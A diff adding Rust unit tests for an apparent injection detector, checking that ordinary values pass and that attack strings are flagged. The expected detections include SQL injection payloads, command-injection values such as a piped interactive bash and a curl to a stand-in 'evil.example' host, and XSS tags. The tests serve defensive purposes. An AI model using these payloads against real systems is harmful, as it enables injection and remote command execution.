@@ -107,6 +107,90 @@ fn everyday_values_raise_nothing() {
 }
 
 #[test]
+fn parameters_that_are_named_as_functions_or_words_of_sql_raise_nothing() {
+    for value in [
+        "https://shop.example/orders?page=1&user_id=5",
+        "/orders?page=1&version=2",
+        "a=1&host_name=x&row_count=5&session_user=ann&current_user=7",
+        "isGpcEnabled=0&datestamp=Mon&version=202401.1.0&browserGpcFlag=0&isIABGlobal=false",
+        "?a=1&case=5",
+        "?a=1&select=5",
+        "phone & case",
+        "Law & case studies",
+        "dvd|case",
+        "=IF(A1>5,\"yes\",\"no\")",
+        "src/login.c: Ignore the return value of alarm() and sleep().",
+        "the @@ of a diff & @@ again",
+    ] {
+        assert_eq!(rule_of(value), None, "{value}");
+    }
+    assert_found(
+        Class::Sqli,
+        &[
+            "7' or current_user='sa'--",
+            "7 and version()>5",
+            "7' and version() like '5%'--",
+            "7 or case when 2=2 then 1 else 0 end",
+            "7 or (case 7 when 7 then 1 end)=1",
+            "7 or 3=(select 3)",
+            "7 and @@version>5",
+        ],
+    );
+}
+
+#[test]
+fn lists_of_words_that_are_also_commands_raise_nothing() {
+    for value in [
+        "java; php; python",
+        "java\r\npython\r\nruby",
+        "id\nname\ndate\n",
+        "art; history; music",
+        "id;name;date",
+        "no|yes",
+        "first|last",
+        "true;false",
+        "asc|id",
+        "date;time",
+        "admin|users",
+        "python & ruby",
+        "fish & bash party",
+        "dog's; host; first",
+        "B\u{fc}cher; date; Musik",
+        "https://x.example/a?b=c&sort",
+    ] {
+        assert_eq!(rule_of(value), None, "{value}");
+    }
+    assert_found(
+        Class::Command,
+        &[
+            "7;id",
+            "a;id",
+            "x|python",
+            "ann;id;",
+            "ann;id #",
+            "ann | curl http://evil.example",
+            "../a;id",
+            "ann&&id",
+            "ann;whoami",
+            "ann|bash -i",
+            "ann';id",
+            "ann;i'd'",
+        ],
+    );
+}
+
+#[test]
+fn names_of_elements_that_need_an_attribute_are_words_without_one() {
+    for value in ["git notes show [<object>]", "the <base> of it", "<set>", "<param >", "<xml/>", "use <embed"] {
+        assert_eq!(rule_of(value), None, "{value}");
+    }
+    assert_found(
+        Class::Xss,
+        &["<object data=x>", "<base href=//evil.example>", "<set/attributeName=href to=x>", "<iframe>"],
+    );
+}
+
+#[test]
 fn finds_sql_in_every_context_and_dialect() {
     assert_found(
         Class::Sqli,
